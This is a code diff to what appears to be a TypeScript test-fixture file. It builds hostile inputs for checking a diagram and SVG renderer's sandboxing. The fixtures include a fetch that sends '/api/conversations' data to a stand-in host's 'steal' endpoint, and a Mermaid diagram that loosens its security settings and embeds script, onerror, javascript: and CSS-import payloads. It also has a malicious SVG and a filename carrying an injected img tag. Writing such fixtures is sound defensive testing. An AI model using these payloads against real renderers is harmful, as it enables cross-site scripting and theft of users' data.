@@ -44,6 +44,36 @@ fetch("/api/conversations").then((r)=>r.text()).then((t)=>fetch("${other}/steal?
 </body></html>`;
 }
 
+/** A diagram that tries to loosen its own limits, to run scripts and to reach `other`. */
+export function hostileDiagram(other: string): string {
+  const settings = {
+    securityLevel: "loose",
+    secure: [],
+    htmlLabels: true,
+    flowchart: { htmlLabels: true },
+    themeCSS: `@import url(${other}/a.css); * { background: url(${other}/b.png) }`,
+    fontFamily: `x; } @import url(${other}/c.css); .x {`,
+    themeVariables: { primaryColor: `red; background: url(${other}/d.png)` },
+    dompurifyConfig: { ADD_TAGS: ["script", "iframe", "link"], ADD_ATTR: ["onerror", "onload"] },
+  };
+  return `---
+config:
+  securityLevel: loose
+  htmlLabels: true
+---
+%%{init: ${JSON.stringify(settings)}}%%
+flowchart LR
+  accTitle: A hostile flow
+  accDescr: It tries everything
+  A["A step <img src='${other}/e.png' onerror='${HARM}'>"] --> B["<script>${HARM}</script><b onclick='${HARM}'>b</b>"]
+  B --> C["<iframe src='javascript:${HARM}'></iframe><link rel='preconnect' href='${other}'>"]
+  C --> D["<svg><foreignObject><img src='${other}/f.png' onerror='${HARM}'></foreignObject></svg>"]
+  D --> E["<style>@import url(${other}/g.css);</style><form action='${other}/h'><input autofocus onfocus='${HARM}'></form>"]
+  click A call alert("harm")
+  click B href "javascript:${HARM}" _top
+  click C href "${other}/top" _top`;
+}
+
 export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${HARM}"><script>${HARM}</script><image href="http://evil.invalid/a.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${HARM}"/></foreignObject><rect width="90" height="60" fill="teal"/></svg>`;
 
 export const HOSTILE_NAME = `"><img src=x onerror=${HARM}>.md`;
